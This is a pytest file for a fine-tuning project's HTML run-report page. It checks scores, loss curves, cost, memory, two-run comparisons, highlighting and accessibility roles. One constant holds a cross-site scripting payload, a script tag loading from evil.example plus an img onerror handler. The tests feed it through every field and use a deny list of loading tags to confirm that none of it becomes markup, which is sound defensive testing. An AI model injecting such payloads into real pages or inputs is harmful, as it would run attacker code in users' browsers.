"""The page of a run, and of two: what stands on it, and that no text of the data or the log becomes markup."""

import math
import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from lorasum.data.records import Manifest, SplitStats
from lorasum.ledger.resources import Origin, TrainingJob
from lorasum.pages.facts import RunFacts, samples
from lorasum.pages.run_page import marked, run_page
from lorasum.results.serving import EvaluateResult, JudgeFigures
from lorasum.scoring.bootstrap import Interval
from lorasum.scoring.evaluation import ScoredSummary, compare, mean_scores, score_summaries
from lorasum.scoring.faithfulness import Finding
from lorasum.shared.events import DoneEvent, EvalEvent, Event, StartEvent, StepEvent, read_event
from lorasum.shared.records import ArtifactRecord

HOSTILE = '"><script src=//evil.example/x.js></script><img src=x onerror=alert(1)>&amp;'
DIALOGUES = [f"Ann: see you at {hour}{HOSTILE}\nBen: fine" for hour in range(1, 9)]
REFERENCES = [[f"Ann and Ben meet at {hour}."] for hour in range(1, 9)]
DONE = DoneEvent(1.5, 1.25, 32_000, 115.0, 277.0, 9, peak_memory_bytes=2 << 30)


def scored(summary: str) -> list[ScoredSummary]:
    return score_summaries(DIALOGUES, REFERENCES, [f"{summary} at {hour}." for hour in range(1, 9)], "en")


def evaluation(tuned: list[ScoredSummary]) -> EvaluateResult:
    base = scored("They talk")
    scores = {"base model": mean_scores(base), "fine-tuned": mean_scores(tuned)}
    comparisons = (compare("base model", tuned, base),)
    return EvaluateResult("chats", 8, "en", scores, comparisons, (), "/scored.jsonl", None, (), 40)


def start() -> StartEvent:
    line = (
        '{"event": "start", "device": "cpu", "memory_parts": {"weights": 1073741824, "head": 536870912}, '
        '"memory_bytes": 1610612736, "steps": 9, "layers": 2}'
    )
    event = read_event(line)
    assert isinstance(event, StartEvent)
    return replace(event, device=f"cpu{HOSTILE}", lora_targets=(HOSTILE,))


def facts(name: str, summary: str, **settings: str) -> RunFacts:
    stats = SplitStats(3, 2, 900, 90, 400, 0.9, 100, "a:1", "a:2", (1, 0, 2))
    steps = [StepEvent(n, 9, n / 3, 3.0 - n / 10, 1e-4, 100.0, 1.0) for n in range(1, 10)]
    events: tuple[Event, ...] = (start(), *steps, EvalEvent(9, 1.25))
    job = TrainingJob(
        run=name,
        name=f"{name}-1",
        backend="local",
        state="done",
        origin=Origin(template="", model=HOSTILE),
        artifact=HOSTILE,
        figures=DONE,
        hyperparameters={"seed": "42", **settings},
        planned_seconds=300.0,
        usd_per_hour=3.6,
        created_at="2026-11-24T03:43:11",
    )
    tuned = scored(summary)
    record = ArtifactRecord(1, name, "m", None, "", 2, (), "abc", {}, DONE, {"torch": "2.13"})
    manifest = Manifest("abc", HOSTILE, HOSTILE, None, 2, 512, {"train": stats}, {HOSTILE: 4}, "0.1.0")
    return RunFacts(name, job, events, manifest, record, evaluation(tuned), tuple(tuned), 0.28, 0.0)


ONE = facts("chats", "Ann meets Oskar", learning_rate="0.0002")
TWO = facts("desk", "Ann and Ben meet", learning_rate="0.0001")
BARE = replace(
    ONE,
    events=(),
    manifest=None,
    record=None,
    evaluation=None,
    scored=(),
    job=replace(ONE.job, figures=DoneEvent(None, None, 0, 0.0, 0.0)),
)


class Reader(HTMLParser):
    """Reads the tags of a page: their names, attributes, ids, and that each is closed."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.text = ""
        self.feed(page)
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in ("meta", "br"):
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += f" {data}" if data.strip() else ""


@pytest.mark.parametrize("runs", [[ONE], [ONE, TWO], [BARE], [BARE, TWO]], ids=["one", "two", "bare", "bare and one"])
def test_no_text_becomes_markup_and_nothing_is_loaded(runs: list[RunFacts]) -> None:
    page = run_page(runs, f"name: {HOSTILE}")
    reader = Reader(page)
    assert not {"script", "img", "link", "iframe", "object", "base", "form"} & {tag for tag, _ in reader.tags}
    loading = [(name, value) for _, attrs in reader.tags for name, value in attrs.items() if name in ("src", "onerror")]
    assert loading == []
    assert not re.findall(r"@import|url\(", page)
    links = [attrs["href"] or "" for tag, attrs in reader.tags if tag == "a"]
    ids = [attrs["id"] for _, attrs in reader.tags if "id" in attrs]
    assert {link.removeprefix("#") for link in links} <= set(ids)
    assert len(ids) == len(set(ids))
    assert HOSTILE in reader.text


def test_one_run_shows_scores_curves_memory_cost_data_and_versions() -> None:
    reader = Reader(run_page([ONE], "name: chats"))
    text = " ".join(reader.text.split())
    for part in (
        "ROUGE-L",
        "against the base model: ROUGE-L better by",
        "name: the dialogue has no 'Oskar'",
        "estimated in all 1.50 GiB",
        "measured at its peak 2.00 GiB",
        "time of the steps, as planned 5 min 0 s",
        "time of the steps 4 min 38 s",
        "cost of the steps, as planned $0.30",
        "cost of the whole job $0.28",
        "learning_rate 0.0002",
        "torch 2.13",
        "name: chats",
    ):
        assert part in text
    labels = [attrs["aria-label"] or "" for tag, attrs in reader.tags if tag == "svg" and attrs.get("role") == "img"]
    assert labels[1] == "Loss by step. training: from 2.900 to 2.100; test split: from 1.250 to 1.250"
    assert len(labels) == 6


def test_a_run_without_a_merged_model_says_so_and_no_speed_of_no_step() -> None:
    figures = replace(DONE, not_merged="it answers as the base model", tokens_per_second=0.0)
    text = Reader(run_page([replace(ONE, events=(*ONE.events, figures), job=replace(ONE.job, figures=figures))])).text
    assert "merged model none: it answers as the base model" in text
    assert "tokens/s" not in text


def test_two_runs_stand_side_by_side_and_differences_are_marked() -> None:
    page = run_page([ONE, TWO])
    text = " ".join(Reader(page).text.split())
    assert "On the 8 dialogues that both were evaluated on: chats against desk: ROUGE-L worse by" in text
    [differs] = re.findall(r'<tr class="differs">(.*?)</tr>', page)
    assert re.sub(r"<[^>]+>", " ", differs).split() == ["learning_rate", "0.0002", "0.0001"]
    assert page.count('class="line run-1"') == 6, "three curves, each with its sign in a legend"
    assert "base model, desk" not in text, "what is the same for both stands there once"
    alone = run_page([ONE, BARE])
    assert "were not evaluated on the same dialogues" in alone


def test_consistency_has_a_column_where_a_model_was_asked() -> None:
    assert ONE.evaluation
    judged = {name: replace(one, consistency=Interval(0.8, 0.7, 0.9)) for name, one in ONE.evaluation.scores.items()}
    asked = replace(ONE, evaluation=replace(ONE.evaluation, scores=judged))
    assert re.search(r'"number">consistent</th>.*data-of="consistent">80%</td>', run_page([asked]), re.DOTALL)
    assert ">consistent<" not in run_page([ONE])
    assert 'data-of="consistent">–</td>' in run_page([asked, TWO]), "one run asked, and the other did not"


def test_a_judge_that_has_judged_nothing_has_no_marks() -> None:
    assert ONE.evaluation
    nothing = JudgeFigures("judge-1", 0, math.nan, math.nan, math.nan, 0, 0, 0, 0.0)
    page = run_page([replace(ONE, evaluation=replace(ONE.evaluation, judge=nothing))])
    assert "judge-1 has judged nothing." in page
    assert "faithfulness" not in page


def test_scores_that_the_job_generated_have_a_curve() -> None:
    scored = replace(ONE, events=(*ONE.events, EvalEvent(3, 1.5, 20.0, "rougeL"), EvalEvent(9, 1.25, 31.5, "rougeL")))
    done = replace(DONE, scored_by="rougeL", kept_because="highest rougeL of 2 evaluations")
    page = run_page([replace(scored, job=replace(scored.job, figures=done))])
    assert "rougeL of generated summaries by step. chats: 31.5 at the end" in page
    assert "highest rougeL of 2 evaluations" in page
    assert "of generated summaries" not in run_page([ONE])


def test_a_run_that_has_just_begun_says_what_is_not_there() -> None:
    text = " ".join(Reader(run_page([BARE])).text.split())
    assert "It has not been evaluated." in text
    assert "The dataset was deleted." in text


def test_without_samples_no_dialogue_stands_on_the_page() -> None:
    assert "see you at 1" in run_page([ONE], shown=12)
    assert "see you at" not in run_page([ONE], shown=0)
    assert "Oskar" not in run_page([ONE], shown=0)


def test_samples_are_those_with_findings_and_others_from_best_to_worst() -> None:
    clean = replace(ONE, scored=tuple(scored("Ann and Ben meet")))
    mixed = replace(ONE, scored=(*ONE.scored[:2], *clean.scored[2:]))
    flagged, spread = samples([mixed, clean], 3)
    assert [sample[0].id for sample in flagged] == [1, 2]
    assert len(spread) == 1
    assert all(len(sample) == 2 for sample in flagged), "the other run's summary stands beside it"


def test_unsupported_words_are_marked_whole_and_nothing_else() -> None:
    found = [
        Finding("number", "1", "no 1"),
        Finding("name", "<Bo>", "no <Bo>"),
        Finding("speaker", "Tim: 30", "not Tim"),
    ]
    html = str(marked("At 10, 1 of 21 & <Bo>: Tim pays 30", found))
    assert html == (
        'At 10, <mark title="no 1">1</mark> of 21 &amp; <mark title="no &lt;Bo&gt;">&lt;Bo&gt;</mark>: '
        'Tim pays <mark title="not Tim">30</mark>'
    )
    assert str(marked("a <b>", [])) == "a &lt;b&gt;"


def test_each_value_of_a_wide_table_names_its_column_for_a_phone() -> None:
    """There its rows are blocks, which takes the meaning of a table away unless roles say it."""
    reader = Reader(run_page([ONE]))
    wide = [attrs for tag, attrs in reader.tags if tag == "td" and "data-of" in attrs]
    assert [attrs["data-of"] for attrs in wide[:5]] == ["ROUGE-1", "ROUGE-2", "ROUGE-L", "chrF", "no unsupported facts"]
    assert {attrs["role"] for attrs in wide} == {"cell"}
    roles = [attrs["role"] for _, attrs in reader.tags if "role" in attrs]
    assert roles.count("table") == 1
    assert roles.count("rowheader") == 2, "the tuned model and the base model"
